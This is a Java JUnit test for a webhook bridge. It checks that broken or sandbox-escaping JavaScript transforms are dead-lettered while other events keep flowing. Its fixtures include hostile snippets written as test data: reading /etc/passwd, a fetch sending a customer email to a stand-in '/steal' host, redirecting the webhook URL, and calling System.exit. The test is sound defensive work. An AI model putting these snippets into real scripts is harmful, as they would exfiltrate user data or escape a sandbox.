package io.dodoloops.bridge.reliability;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import jakarta.jms.Message;
import org.junit.jupiter.api.Test;

import io.dodoloops.bridge.BridgeTest;
import io.dodoloops.bridge.LoopsStandIn;
import io.dodoloops.bridge.RunningBridge;
import io.dodoloops.bridge.reliability.DodoSender.Webhook;
import io.dodoloops.bridge.signature.WebhookSecrets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * Transforms that throw, never end, run too long or out of memory, or try to get out of the sandbox (Java classes,
 * files, modules, the network, another host): each fails only its own event, which is dead-lettered with a reason
 * naming the script, while the bridge keeps accepting webhooks and the other event types keep reaching Loops.
 */
class FaultyTransformsTest {

    /** Event type -> a transform that cannot succeed, and what the dead letter's reason says besides its name. */
    private static final Map<String, Script> FAULTY = new LinkedHashMap<>();

    record Script(String file, String handlerBody, String reasonMentions) {
    }

    static {
        FAULTY.put("fault.throws", new Script("throws.js", "throw new Error('no template for ' + webhook.eventType);",
                "Error: no template for fault.throws"));
        FAULTY.put("fault.loops", new Script("loops.js", "while (true) {}", "exceeded 1000000 statements (bridge.transforms.statement-limit)"));
        FAULTY.put("fault.regex", new Script("regex.js", "/^(a+)+(?=b)\\1c$/.test('a'.repeat(40) + 'b');",
                "ran longer than 2s (bridge.transforms.time-limit)"));
        FAULTY.put("fault.memory", new Script("memory.js", "const huge = 'x'.repeat(2 ** 31);",
                "ran out of memory at line 2 (RangeError: Invalid string length)"));
        FAULTY.put("fault.java", new Script("java.js", "Java.type('java.lang.System').exit(1);",
                "Access to host class java.lang.System is not allowed"));
        FAULTY.put("fault.load", new Script("load.js", "load('x.js');", "Operation is not allowed for: x.js"));
        FAULTY.put("fault.require", new Script("require.js", "const fs = require('fs'); fs.readFileSync('/etc/passwd');",
                "require is not defined"));
        FAULTY.put("fault.fetch", new Script("fetch.js", "fetch('http://127.0.0.1:9/steal?data=' + webhook.payload.data.customer.email);",
                "fetch is not defined"));
        FAULTY.put("fault.elsewhere", new Script("elsewhere.js",
                "webhook.payload = {eventName: 'x', email: 'a@acme.com'}; webhook.url = 'http://127.0.0.1:9/steal';",
                "this bridge only sends to Loops"));
    }

    private static final List<String> FINE = List.of("payment.succeeded", "subscription.active", "payment.failed");

    private final String secret = WebhookSecrets.generate(new SecureRandom());
    private final DodoSender dodo = new DodoSender(secret);

    @Test
    void eachFaultyTransformDeadLettersOnlyItsOwnEventsWhileTheBridgeKeepsDelivering() throws Exception {
        try (LoopsStandIn loops = LoopsStandIn.start();
             RunningBridge bridge = RunningBridge.start(Map.of(
                     "bridge.data-dir", Files.createTempDirectory("bridge-faulty").toString(),
                     "bridge.transforms.directory", transformsWithFaultyScripts().toString(),
                     "bridge.routes.directory", routesSendingFaultTypesToThem().toString(),
                     "bridge.webhook.secret", secret,
                     "bridge.loops.api-key", "test-loops-key",
                     "bridge.loops.base-url", loops.baseUrl()))) {
            // Faulty and fine events interleaved, twice over: a failure must not poison the script's next event either.
            List<Webhook> faulty = new ArrayList<>();
            List<Webhook> fine = new ArrayList<>();
            for (int round = 0; round < 2; round++) {
                for (String type : FAULTY.keySet()) {
                    faulty.add(accept(bridge, type));
                    fine.add(accept(bridge, FINE.get(fine.size() % FINE.size())));
                }
            }

            for (Webhook webhook : fine) {
                await().atMost(Duration.ofSeconds(30)).until(() -> loops.statusesFor(webhook.id()).contains(200));
            }
            for (Webhook webhook : faulty) {
                Script script = FAULTY.get(webhook.eventType());
                Message[] deadLetter = new Message[1];
                await().atMost(Duration.ofSeconds(30))
                        .until(() -> (deadLetter[0] = BridgeTest.firstDeadLetter(bridge.jms(), webhook.id())) != null);
                assertThat(deadLetter[0].getStringProperty("DeadLetterReason")).as(webhook.eventType())
                        .contains(script.file()).contains(script.reasonMentions())
                        .doesNotContain("test@acme.com");
                assertThat(loops.requestsFor(webhook.id())).as(webhook.eventType()).isEmpty();
            }

            // Still serving: new webhooks are accepted and delivered.
            List<Webhook> after = new ArrayList<>();
            for (String type : FINE) {
                after.add(accept(bridge, type));
            }
            for (Webhook webhook : after) {
                await().atMost(Duration.ofSeconds(30)).until(() -> loops.statusesFor(webhook.id()).contains(200));
            }
            assertThat(loops.answers()).hasSize(fine.size() + after.size());
            assertThat(loops.requests()).noneMatch(r -> r.path().contains("steal"));
        }
    }

    private Webhook accept(RunningBridge bridge, String type) {
        byte[] body = new String(DodoSender.sample("payment.succeeded"), StandardCharsets.UTF_8)
                .replace("\"type\": \"payment.succeeded\"", "\"type\": \"" + type + "\"").getBytes(StandardCharsets.UTF_8);
        if (FINE.contains(type)) {
            body = DodoSender.sample(type);
        }
        Webhook webhook = new Webhook("msg_" + UUID.randomUUID().toString().replace("-", ""), type, body);
        assertThat(dodo.send(bridge.webhookUrl(), webhook).status()).isEqualTo(202);
        return webhook;
    }

    /** A copy of transforms/ plus one faulty script per fault event type. */
    private static Path transformsWithFaultyScripts() throws IOException {
        Path dir = Files.createTempDirectory("transforms");
        try (var shipped = Files.list(Path.of("transforms"))) {
            for (Path script : shipped.toList()) {
                Files.copy(script, dir.resolve(script.getFileName()));
            }
        }
        for (Script script : FAULTY.values()) {
            Files.writeString(dir.resolve(script.file()),
                    "function handler(webhook) {\n  " + script.handlerBody() + "\n  return webhook;\n}\n");
        }
        return dir;
    }

    /** A copy of routes/ whose transform.yaml sends each fault event type to its script. */
    private static Path routesSendingFaultTypesToThem() throws IOException {
        Path dir = Files.createTempDirectory("routes");
        try (var shipped = Files.list(Path.of("routes"))) {
            for (Path route : shipped.toList()) {
                Files.copy(route, dir.resolve(route.getFileName()));
            }
        }
        StringBuilder whens = new StringBuilder();
        FAULTY.forEach((type, script) -> whens.append("""
                              - id: is-%1$s
                                simple: "${header.DodoEventType} == '%2$s'"
                                steps:
                                  - bean:
                                      id: transform-%1$s
                                      ref: javascript
                                      method: "transform(${body}, '%3$s')"
                """.formatted(type.replace('.', '-'), type, script.file())));
        Path transform = dir.resolve("transform.yaml");
        String yaml = Files.readString(transform);
        // The line of the event-type choice itself, not a nested choice's (the subscription.active branch has one).
        String anchor = "\n            when:\n";
        assertThat(yaml).contains(anchor);
        Files.writeString(transform, yaml.replace(anchor, anchor + whens));
        return dir;
    }
}
